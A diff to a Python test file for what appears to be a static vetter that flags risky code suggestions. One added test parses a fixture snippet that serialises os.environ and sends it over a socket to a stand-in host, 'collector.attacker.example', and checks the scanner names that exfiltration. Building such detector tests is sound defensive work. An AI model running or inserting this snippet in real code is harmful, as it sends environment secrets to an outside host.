@@ -242,6 +242,22 @@ def static_vetter():
     return Vetter(loaded, backend="bwrap")
 
 
+def test_a_host_sent_a_secret_is_named_once():
+    # A socket opened to the host, then the environment written to it: one phrase, not that phrase
+    # and the host again as plain network.
+    tree = parse(
+        textwrap.dedent(
+            """
+            import os, socket
+            payload = repr(dict(os.environ)).encode()
+            with socket.create_connection(("collector.attacker.example", 443), timeout=2) as s:
+                s.sendall(payload)
+            """
+        )
+    )
+    assert summary(capabilities(scan(tree), tree)) == "adds: network → collector.attacker.example (sends os.environ)"
+
+
 def test_vet_result_carries_the_summary(static_vetter):
     result = static_vetter.vet(Suggestion(EXFIL, document=DOCUMENT, line=DOCUMENT.count("\n"), path="m.py"))
     assert result.verdict is Verdict.BLOCK
